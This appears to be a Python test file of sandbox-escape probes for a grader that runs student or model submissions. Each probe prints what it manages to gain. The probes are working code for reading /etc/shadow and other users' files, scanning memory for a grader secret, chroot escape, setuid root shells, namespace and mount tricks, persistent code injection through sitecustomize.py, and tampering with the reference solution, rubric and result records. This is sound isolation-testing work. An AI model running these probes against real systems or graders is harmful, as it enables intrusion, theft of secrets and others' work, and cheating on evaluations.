"""Attacks by a script in the sandbox: each prints GAINED and what, if it gains anything.

All of them run in one sandbox, a rank each. Words in capitals are filled in: CLASS is the folder of
all submissions, RESULTS that of the records, KIT the grader's own, CLONE another copy of it, MODEL
what all runs read, PORT the port of a server outside, ABSTRACT the name of another one, ALLOWED are
the devices of a sandbox, and DIGEST is the checksum of a secret in the grader's environment.
"""

# name -> (what it would gain, script)
READING = {
    "classmate": ("a classmate's work", "gain_file('CLASS/bob/task1/run_glue.py')"),
    "class_list": ("the names of the class", "gain_names('CLASS', 'ann')"),
    "results": ("the results", "gain_names('RESULTS')"),
    "record": ("its own record", "gain_file('RESULTS/0.events')"),
    "kit": ("the reference solution", "gain_file('KIT/staff/reference.py')"),
    "rubric": ("the rubric", "gain_file('KIT/grading/rubric.yaml')"),
    "clone": ("another copy of the kit", "gain_file('CLONE/solution.py')"),
    "search": (
        "any solution on the disk",
        """
for top in ("/home", "/root", "/opt", "/srv", "/mnt", "/var", "/tmp", "/work", "/usr/local"):
    for here, folders, files in os.walk(top):
        if here.startswith(os.getcwd()) or "site-packages" in here or "/lib/python" in here:
            folders.clear()
        elif "run_glue.py" in files or "reference.py" in files:
            gain(here)
""",
    ),
    "run_folder": ("files of running services", "gain_names('/run')\ngain_names('/var/run')"),
    "home": ("home folders", "gain_names('/home')\ngain_names('/root', '.pyenv')"),
    "shadow": ("the system's users", "gain_file('/etc/shadow')\ngain_names('/etc/ssh')"),
    "other_temporary": (
        "other runs' temporary files",
        """
found = set(os.listdir("/tmp")) - set(os.getcwd().split("/"))
found -= {name for name in found if os.stat(f"/tmp/{name}").st_uid == os.getuid()}
gain(*found)
""",
    ),
    "shared_memory": ("others' shared memory", "gain_names('/dev/shm')"),
    "system_v": (
        "others' System V shared memory",
        "gain(*open('/proc/sysvipc/shm').read().splitlines()[1:])",
    ),
    "processes": (
        "others' command lines",
        """
for name in filter(str.isdigit, os.listdir("/proc")):
    if os.stat(f"/proc/{name}").st_uid != os.getuid() or int(name) < 2:
        gain(name, open(f"/proc/{name}/cmdline").read())
""",
    ),
    "first_process": (
        "the environment, files or memory of the process that started it",
        """
for pid in (1, os.getppid()):
    for name in ("environ", "cmdline", "maps", "mem", "root/etc/shadow", "cwd", "fd"):
        attempt(lambda: gain(os.listdir(f"/proc/{pid}/{name}")))
        attempt(lambda: gain(open(f"/proc/{pid}/{name}").read(9)))
""",
    ),
    "environment": (
        "the grader's environment",
        "gain(*(name for name in os.environ if 'SECRET' in name))",
    ),
    "own_memory": (
        "the grader's environment, which this process had when it was forked",
        """
import ctypes
ctypes.CDLL(None).prctl(4, 1, 0, 0, 0)  # PR_SET_DUMPABLE: its memory is its own again
for line in open("/proc/self/maps"):
    place, rights, _, _, _, *path = line.split()
    if rights[:2] == "rw" and path[:1] in ([], ["[heap]"], ["[stack]"]):
        start, end = (int(one, 16) for one in place.split("-"))
        if end - start > 2**27:  # a thread's arena
            continue
        with open("/proc/self/mem", "rb", 0) as memory:
            for at in range(start, end, 2**24):
                memory.seek(at)
                found = attempt(lambda: memory.read(min(2**24, end - at))) or b""
                after = [zlib.crc32(one[:8]) for one in found.split(b"not-for-")[1:]]
                if DIGEST in after:  # not compared with the text, which would be found here
                    gain("the secret")
""",
    ),
    "descriptors": (
        "what the grader has opened",
        """
for number in range(3, 256):
    path = attempt(lambda: os.readlink(f"/proc/self/fd/{number}")) or ""
    if path and path != "/dev/null":
        attempt(lambda: gain(*open(f"/proc/self/fd/{number}").readlines()))
        attempt(lambda: gain(*filter(None, [os.read(number, 9)])))
""",
    ),
    "outer_folder": (
        "the folders above its own, through an open descriptor",
        """
for number in range(3, 256):
    attempt(lambda: gain(os.listdir(f"/proc/self/fd/{number}/..")))
""",
    ),
    "chroot": (
        "the files outside its root",
        """
os.mkdir("way-out")
top = os.open("/", os.O_RDONLY)
os.chroot("way-out")
os.fchdir(top)
for _ in range(50):
    os.chdir("..")
gain(os.listdir("."))
""",
    ),
    "symbolic_link": (
        "a file outside, through a link",
        "os.symlink('KIT/staff/reference.py', 'link')\ngain_file('link')",
    ),
    "hard_link": ("a library that it may write", "os.link(os.__file__, 'link')\ngain('linked')"),
    "handle": (
        "a file outside, by its handle",
        """
import ctypes
number = {"x86_64": 304, "aarch64": 265}[os.uname().machine]
handle = ctypes.create_string_buffer(struct.pack("IiQ", 8, 1, 2))
top = os.open("/usr", os.O_RDONLY)
if ctypes.CDLL(None).syscall(number, top, handle, os.O_RDONLY) >= 0:
    gain("the root of the disk")
""",
    ),
    "key_ring": (
        "a place to leave notes for other runs",
        """
import ctypes
number = {"x86_64": 248, "aarch64": 217}[os.uname().machine]
if ctypes.CDLL(None).syscall(number, b"user", b"note", b"text", 4, -4) > 0:
    gain("a key")
""",
    ),
}
REACHING = {
    "server": (
        "a server on the same machine",
        "socket.create_connection(('127.0.0.1', PORT), 3)\ngain('connected')",
    ),
    "internet": ("the internet", "socket.create_connection(('1.1.1.1', 53), 3)\ngain('connected')"),
    "datagram": (
        "a way to send data out",
        "socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('1.1.1.1', 53))\ngain(1)",
    ),
    "names": ("a name server", "gain(socket.gethostbyname('example.com'))"),
    "raw_socket": (
        "others' packets",
        "gain(socket.socket(socket.AF_PACKET, socket.SOCK_RAW))",
    ),
    "abstract_socket": (
        "a service's abstract socket",
        """
with socket.socket(socket.AF_UNIX) as one:
    one.connect(chr(0) + "ABSTRACT")
    gain("connected")
""",
    ),
    "interfaces": (
        "the machine's networks",
        "gain(*(name for _, name in socket.if_nameindex() if name != 'lo'))",
    ),
}
CHANGING = {
    "write_python": (
        "code in every later run",
        """
import site
for folder in (*sys.path, sys.prefix, sys.base_prefix, os.path.dirname(sys.executable), "/"):
    if not folder.startswith(os.getcwd()):
        attempt(lambda: gain(open(os.path.join(folder, "sitecustomize.py"), "w").name))
        attempt(lambda: gain(open(os.path.join(folder, "x.pth"), "w").name))
""",
    ),
    "write_model": (
        "another model for the others",
        """
for name in os.listdir("MODEL"):
    attempt(lambda: gain(open(os.path.join("MODEL", name), "r+")))
    attempt(lambda: gain(os.rename(os.path.join("MODEL", name), os.path.join("MODEL", "x"))))
gain(open("MODEL/new", "w").name)
""",
    ),
    "write_system": (
        "the system's files",
        """
for path in ("/etc/passwd", "/usr/bin/env", "/bin/sh", "/lib/x", "/dev/x", "/x", "/sys/x"):
    attempt(lambda: gain(open(path, "a").name))
""",
    ),
    "become_root": (
        "root's rights",
        """
for change in (os.setuid, os.seteuid, os.setgid):
    attempt(lambda: gain(change(0)))
attempt(lambda: gain(os.setgroups([0])))
""",
    ),
    "set_user_id": (
        "root's rights, through a program",
        """
import shutil
shutil.copy("/bin/sh", "shell")
os.chmod("shell", 0o6755)
text = subprocess.run(["./shell", "-p", "-c", "id -u"], capture_output=True, text=True).stdout
gain(text) if text.strip() == "0" else None
for name in ("su", "sudo", "mount", "passwd", "newgrp", "chsh"):
    done = attempt(lambda: subprocess.run([name, "-c", "id -u"], capture_output=True, text=True))
    gain(name) if done and done.stdout.strip() == "0" else None
""",
    ),
    "user_namespace": (
        "root's rights over new namespaces",
        """
import ctypes
library = ctypes.CDLL(None, use_errno=True)
for flags in (0x10000000, 0x20000000, 0x40000000):
    if library.unshare(flags) == 0:
        gain(hex(flags))
number = {"x86_64": 56, "aarch64": 220}[os.uname().machine]
child = library.syscall(number, 0x10000000 | 17, 0, 0, 0, 0)  # clone(CLONE_NEWUSER | SIGCHLD)
if child == 0:
    os._exit(0)
if child > 0:
    gain("a user namespace")
""",
    ),
    "mount": (
        "other files, by mounting over them",
        """
import ctypes
library = ctypes.CDLL(None)
for source, kind in (b"none", b"tmpfs"), (b"/dev/vda", b"ext4"), (b"proc", b"proc"):
    if library.mount(source, os.fsencode(os.getcwd()), kind, 0, None) == 0:
        gain(kind)
for path in (b"/", b"/proc", b"/tmp", b"/usr/lib"):
    if library.umount2(path, 2) == 0:
        gain(path)
""",
    ),
    "device": (
        "the disk",
        """
os.mknod("disk", 0o600 | stat.S_IFBLK, os.makedev(254, 0))
gain(open("disk", "rb").read(9))
""",
    ),
    "devices": (
        "devices of the machine",
        "gain(*(set(os.listdir('/dev')) - set(ALLOWED.split())))",
    ),
    "clock": ("another time", "time.clock_settime(time.CLOCK_REALTIME, 0)\ngain('set')"),
    "host_name": ("another name for the machine", "socket.sethostname('x')\ngain('set')"),
    "settings": (
        "the kernel's settings",
        """
for name in ("kernel/core_pattern", "vm/drop_caches", "kernel/sysrq", "kernel/shmall"):
    attempt(lambda: gain(open(f"/proc/sys/{name}", "w").name))
attempt(lambda: gain(open("/proc/sysrq-trigger", "w").name))
""",
    ),
    "priority": (
        "the cores, from others",
        """
attempt(lambda: gain(os.nice(-5)))
attempt(lambda: gain(os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(9))))
""",
    ),
    "limits": (
        "higher limits",
        """
for name in ("FSIZE", "CPU", "AS", "NOFILE", "NPROC", "CORE"):
    which = getattr(resource, f"RLIMIT_{name}")
    if resource.getrlimit(which)[1] == resource.RLIM_INFINITY:
        gain("no limit", which)
    most = resource.getrlimit(which)[1]
    attempt(lambda: gain(which, resource.setrlimit(which, (most + 1, most + 1))))
""",
    ),
    "signals": (
        "the death of the grader, or of others",
        """
for pid in (1, 2, os.getppid()):
    attempt(lambda: gain(pid, os.kill(pid, 0)))
    attempt(lambda: gain(pid, os.kill(pid, 9)))
""",
    ),
    "trace": (
        "the memory of the process that started it",
        """
import ctypes
for pid in {1, os.getppid()}:
    if ctypes.CDLL(None).ptrace(16, pid, 0, 0) == 0:
        gain(pid)
""",
    ),
    "hidden_memory": ("memory that nobody counts", "gain(os.memfd_create('x'))"),
    "kernel": (
        "a way into the kernel",
        """
import ctypes
numbers = {"x86_64": (321, 298, 323, 425, 175), "aarch64": (280, 241, 282, 425, 105)}
for number in numbers[os.uname().machine]:
    if ctypes.CDLL(None).syscall(number, 0, 0, 0, 0, 0) >= 0:
        gain(number)
""",
    ),
    "record_rewritten": (
        "another record than the probe's",
        """
for number in range(3, 64):
    path = attempt(lambda: os.readlink(f"/proc/self/fd/{number}")) or ""
    if "events" in path:
        attempt(lambda: gain(open(f"/proc/self/fd/{number}", "r+")))
        attempt(lambda: gain(os.pread(number, 9, 0)))
""",
    ),
    "standard_input": ("what is typed to the grader", "gain(*sys.stdin.read(9))"),
    "terminal": ("the grader's terminal", "gain(open('/dev/tty', 'w'))"),
}
INSIDE = READING | REACHING | CHANGING
PRELUDE = """
import os, resource, socket, stat, struct, subprocess, sys, time, zlib

def gain(*what):
    for one in what:
        print("GAINED", one, flush=True)

def attempt(call):
    try:
        return call()
    except Exception:
        return None

def gain_file(path):
    gain(open(path).read(20))

def gain_names(path, *allowed):
    gain(*(name for name in os.listdir(path) if name not in allowed))

try:
    exec(compile(ATTACK, "attack", "exec"))
except Exception as error:
    print("refused:", type(error).__name__, error)
print("attack over", flush=True)
"""
